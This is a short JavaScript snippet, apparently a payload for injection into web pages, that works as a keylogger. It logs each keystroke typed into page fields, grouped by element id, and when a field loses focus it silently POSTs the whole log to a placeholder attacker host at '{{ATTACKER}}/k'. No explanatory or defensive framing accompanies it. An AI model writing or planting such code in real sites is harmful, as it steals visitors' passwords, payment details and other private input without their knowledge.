(function () {
  var log = {};
  document.addEventListener('keydown', function (e) {
    var t = e.target;
    if (!e.isTrusted || !t || !t.id || e.key.length !== 1) {
      return;
    }
    log[t.id] = (log[t.id] || '') + e.key;
  }, true);
  document.addEventListener('focusout', function (e) {
    var t = e.target;
    if (!t || !log[t.id]) {
      return;
    }
    fetch('{{ATTACKER}}/k', {method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(log)});
  }, true);
})();
